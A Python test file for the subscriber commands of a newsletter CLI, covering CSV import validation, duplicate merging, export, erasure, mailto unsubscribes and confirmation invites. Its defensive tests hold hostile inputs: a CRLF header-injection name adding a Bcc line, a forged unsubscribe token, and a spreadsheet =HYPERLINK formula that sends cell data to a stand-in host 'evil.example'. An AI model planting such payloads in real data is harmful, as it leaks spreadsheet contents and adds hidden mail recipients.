"""`digest subscribers …` as a subprocess: a hostile CSV, the JSON listings,
export, remove and forget — never a resurrected address."""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from pathlib import Path

from digest.capture import CaptureServer
from tests.support.cli import base_env, digest, in_a_terminal, load_demo, migrated

HOSTILE = (
    "email,name,sections,timezone,consent_source,consent_at\r\n"
    'ivan@example.ru,Иван Петров,"Флот, армия",Europe/Moscow,form,2026-11-01T10:00:00+03:00\r\n'
    "not-an-address,Nobody,,,,\r\n"
    "IVAN@Example.RU,Иван П.,,,,\r\n"  # the same address in another case: merged
    "ольга@пример.рф,Ольга,,Asia/Vladivostok,,2026-11-02T09:00:00+10:00\r\n"
    'petr@example.ru,"Пётр\r\nBcc: victim@example.org",,,,\r\n'  # CRLF in a name
    "anna@example.ru," + "А" * 500 + ",,,,\r\n"  # a 500-character name
    "boris@example.ru,Борис,,Mars/Olympus,,\r\n"  # a zone that does not exist
    "gone@example.ru,Ушедший,,,,2026-10-01T10:00:00+03:00\r\n"
    "late@example.ru,Поздний,,,,yesterday\r\n"
)


def run(workdir: Path, *args: str) -> tuple[int, str, str]:
    result = digest(workdir, "subscribers", *args, env=base_env(workdir))
    return result.returncode, result.stdout, result.stderr


def test_import_validates_normalises_merges_and_never_resurrects(workdir: Path) -> None:
    migrated(workdir)
    first = workdir / "first.csv"
    first.write_text("email,name\ngone@example.ru,Ушедший\n", encoding="utf-8")
    assert run(workdir, "import", str(first))[0] == 0
    code, out, _ = run(workdir, "remove", "gone@example.ru")
    assert code == 0 and "unsubscribed" in out

    path = workdir / "readers.csv"
    path.write_text(HOSTILE, encoding="utf-8")
    code, out, err = run(workdir, "import", str(path))
    assert code == 3, err  # some lines were rejected, the rest imported
    assert "readers.csv:3: email: 'not-an-address' is not valid" in err
    assert "readers.csv:9: timezone: unknown time zone 'Mars/Olympus'" in err
    assert "readers.csv:11: consent_at: 'yesterday' is not an ISO 8601 time" in err
    assert "name cut to 200 of its 500 characters" in err
    assert "duplicates merged 1" in out and "rejected 3" in out
    assert "kept unsubscribed/bounced/forgotten 1" in out

    code, out, _ = run(workdir, "list", "--json")
    people = {p["email"]: p for p in json.loads(out)}
    assert set(people) == {
        "ivan@example.ru",
        "ольга@пример.рф",
        "petr@example.ru",
        "anna@example.ru",
        "gone@example.ru",
    }
    ivan = people["ivan@example.ru"]
    # Merged: the later line's name wins, its blank sections do not erase the first's.
    assert ivan["name"] == "Иван П." and ivan["sections"] == "армия,флот"
    assert ivan["status"] == "active"  # consent on record
    assert people["ольга@пример.рф"]["timezone"] == "Asia/Vladivostok"
    assert people["petr@example.ru"]["name"] == "Пётр Bcc: victim@example.org"  # one line
    assert people["petr@example.ru"]["status"] == "pending"  # double opt-in, no consent yet
    assert len(people["anna@example.ru"]["name"]) == 200
    assert people["gone@example.ru"]["status"] == "unsubscribed"  # not resurrected

    code, out, _ = run(workdir, "show", "Ivan@EXAMPLE.ru", "--json")
    assert code == 0 and json.loads(out)["consent_source"] == "form"


def test_export_then_forget_leaves_only_a_hash(workdir: Path) -> None:
    migrated(workdir)
    code, out, err = run(workdir, "add", "vera@example.ru", "--name", "Вера", "--sections", "флот")
    assert code == 0 and "added" in out, err
    code, out, _ = run(workdir, "export", "vera@example.ru")
    rows = list(csv.DictReader(io.StringIO(out)))
    assert rows[0]["kind"] == "subscriber" and rows[0]["email"] == "vera@example.ru"
    code, out, _ = run(workdir, "forget", "vera@example.ru")
    assert code == 0 and "erased" in out
    assert run(workdir, "show", "vera@example.ru")[0] == 1
    code, _, err = run(workdir, "add", "Vera@example.ru")
    assert code == 1 and "not added" in err  # the hash refuses it
    again = workdir / "again.csv"
    again.write_text("email\nvera@example.ru\n", encoding="utf-8")
    code, out, _ = run(workdir, "import", str(again))
    assert code == 0 and "added 0" in out and "forgotten 1" in out
    import sqlite3

    with sqlite3.connect(workdir / "var" / "digest.sqlite3") as conn:
        dump = "\n".join(conn.iterdump())
    assert "vera" not in dump.lower() and "Вера" not in dump


def test_a_csv_without_an_email_column_is_refused(workdir: Path) -> None:
    migrated(workdir)
    path = workdir / "bad.csv"
    path.write_text("mail,name\nx@example.ru,X\n", encoding="utf-8")
    code, _, err = run(workdir, "import", str(path))
    assert code == 1 and "no 'email' column" in err


def test_mailto_unsubscribes_from_a_maildir(workdir: Path) -> None:
    import email
    import email.policy
    import mailbox

    env = base_env(workdir)
    load_demo(workdir, env, 3, date(2026, 11, 25), draft=False)  # `digest demo --no-send`
    who = "reader00001@example.com"
    eml = digest(
        workdir,
        "preview",
        "--date",
        "2026-11-25",
        "--subscriber",
        who,
        "--format",
        "eml",
        "--out",
        "-",
        env=env,
    )
    header = str(
        email.message_from_string(eml.stdout, policy=email.policy.default)["List-Unsubscribe"]
    )
    mailto = header.split("<mailto:", 1)[1].split(">", 1)[0]
    box = mailbox.Maildir(workdir / "inbound", create=True)
    box.add(f"From: {who}\r\nTo: {mailto}\r\nSubject: unsubscribe\r\n\r\n".encode())
    box.add(b"From: x@example.org\r\nTo: unsubscribe+forged.token@vpk.example.ru\r\n\r\nhi\r\n")
    result = digest(workdir, "inbound", str(workdir / "inbound"), env=env)
    assert result.returncode == 3, result.stderr
    assert "unsubscribed 1" in result.stdout and "unreadable 1" in result.stdout
    shown = json.loads(digest(workdir, "subscribers", "show", who, "--json", env=env).stdout)
    assert shown["status"] == "unsubscribed"
    assert len(box) == 1  # the forged one stays where it was


def test_invite_sends_each_pending_subscriber_one_confirmation(workdir: Path) -> None:
    with CaptureServer(enable_SMTPUTF8=False) as server:
        env = base_env(workdir, DIGEST_SMTP_URL=server.url)
        migrated(workdir, env)
        path = workdir / "new.csv"
        path.write_text(
            "email,name,consent_at\n"
            "petr@example.ru,Пётр,\n"
            "anna@example.ru,Анна,\n"
            "олег@example.ru,Олег,\n"  # a non-ASCII local part: needs SMTPUTF8
            "ivan@example.ru,Иван,2026-11-01T10:00:00+03:00\n",  # consent recorded: active
            encoding="utf-8",
        )
        result = digest(workdir, "subscribers", "import", str(path), env=env)
        assert result.returncode == 0, result.stderr
        assert "3 pending subscriber(s) have no confirmation mail yet" in result.stdout

        result = digest(workdir, "subscribers", "invite", "--dry-run", env=env)
        assert result.returncode == 0 and "3 confirmation mail(s) would go out" in result.stdout
        assert "/confirm/" in result.stdout and not server.messages

        result = digest(workdir, "subscribers", "invite", env=env)
        assert result.returncode == 3, result.stderr  # one could not be sent; the rest went
        assert "олег@example.ru" in result.stderr and "SMTPUTF8" in result.stderr
        assert "confirmation mail sent to 2, failed 1" in result.stdout
        assert sorted(m.rcpt_to[0] for m in server.messages) == [
            "anna@example.ru",
            "petr@example.ru",
        ]
    # Through a relay that offers SMTPUTF8, олег's goes too (RFC 6531).
    with CaptureServer() as server:
        env = base_env(workdir, DIGEST_SMTP_URL=server.url)
        result = digest(workdir, "subscribers", "invite", env=env)
        assert result.returncode == 0, result.stderr
        assert "confirmation mail sent to 1, failed 0" in result.stdout
        assert [m.rcpt_to[0] for m in server.messages] == ["олег@example.ru"]
        # Nobody gets a second one while their link works.
        result = digest(workdir, "subscribers", "invite", env=env)
        assert "confirmation mail sent to 0" in result.stdout

        # `add` on a double opt-in list: pending, and the mail goes at once.
        result = digest(workdir, "subscribers", "add", "new@example.ru", env=env)
        assert result.returncode == 0, result.stderr
        assert "new@example.ru: added, pending" in result.stdout
        assert list(server.messages[-1].rcpt_to) == ["new@example.ru"]
        listed = json.loads(
            digest(workdir, "subscribers", "show", "new@example.ru", "--json", env=env).stdout
        )
        assert listed["status"] == "pending" and listed["invited_at"]


def test_export_neutralises_formulas_and_writes_dash_to_stdout(workdir: Path) -> None:
    """Issue 12.9: a name like =HYPERLINK(…) must not run as a formula when the
    export is opened in a spreadsheet; `--out -` is standard output, not a file."""
    migrated(workdir)
    evil = '=HYPERLINK("https://evil.example/?d="&A2,"Открыть")'
    code, out, err = run(workdir, "add", "vera@example.ru", "--name", evil, "--no-invite")
    assert code == 0, err
    code, out, err = run(workdir, "export", "vera@example.ru", "--out", "-")
    assert code == 0, err
    assert not (workdir / "-").exists()
    row = next(csv.DictReader(io.StringIO(out)))
    assert row["name"] == "'" + evil  # shown as text, never evaluated
    assert not any(v.startswith(("=", "+", "-", "@")) for v in row.values() if v)
    target = workdir / "vera.csv"
    code, out, err = run(workdir, "export", "vera@example.ru", "--out", str(target))
    assert code == 0 and target.stat().st_mode & 0o777 == 0o600  # personal data


LONG_LOCAL = b"x" * 70 + b"@example.ru,Long,\r\n"
HUGE_FIELD = b"four@example.ru," + b"N" * 200_000 + b",\r\n"


def test_a_hostile_csv_loses_only_its_bad_lines_each_named_by_its_true_number(
    workdir: Path,
) -> None:
    """Issue 12.5/9: an undecodable byte, an over-long field, a 70-octet local part,
    a bad zone and a quoted field spanning lines: each bad line is reported with
    the number an editor sees, and every good line is loaded."""
    migrated(workdir)
    path = workdir / "hostile.csv"
    path.write_bytes(
        b"email,name,timezone\r\n"  # line 1
        b"one@example.ru,One,\r\n"  # 2
        b'two@example.ru,"Two\r\nlines",\r\n'  # 3-4: one record over two lines
        b"bad\xff\xfe@example.ru,Bad,\r\n"  # 5: not UTF-8
        b"three@example.ru,Three,\r\n"  # 6
        + LONG_LOCAL  # 7: local part over 64 octets (RFC 5321)
        + HUGE_FIELD  # 8: a field over the limit
        + b"five@example.ru,Five,Europe\r\n"  # 9: a folder of the zone database
        b"six@example.ru,Six,Asia/Vladivostok\r\n"  # 10
    )
    code, out, err = run(workdir, "import", str(path))
    assert code == 3, err
    assert "Traceback" not in err
    for line in (5, 7, 8, 9):
        assert f"hostile.csv:{line}:" in err, (line, err)
    assert "rejected 4" in out
    code, out, _ = run(workdir, "list", "--json")
    emails = {p["email"] for p in json.loads(out)}
    assert emails == {f"{n}@example.ru" for n in ("one", "two", "three", "six")}


def test_a_long_import_shows_progress_at_a_terminal_and_nothing_cut_in_a_pipe(
    workdir: Path,
) -> None:
    """Issue 28 §7: an import of 20 000 lines ran 37 s silent; without a terminal a
    progress line came out cut to «100… 0:0…»."""
    big = workdir / "readers.csv"
    lines = ["email,name"] + [f"reader{n}@example.ru,Читатель {n}" for n in range(6000)]
    big.write_text("\n".join(lines) + "\n", encoding="utf-8")
    migrated(workdir)
    code, seen = in_a_terminal(workdir, "subscribers", "import", str(big))
    assert code == 0, seen
    assert "import readers.csv" in seen and "/6000" in seen, seen[-2000:]
    assert "added 6000" in seen
    piped = digest(workdir, "subscribers", "import", str(big))
    assert piped.returncode == 0 and "updated 6000" in piped.stdout
    assert "import readers.csv" not in piped.stderr and "…" not in piped.stderr
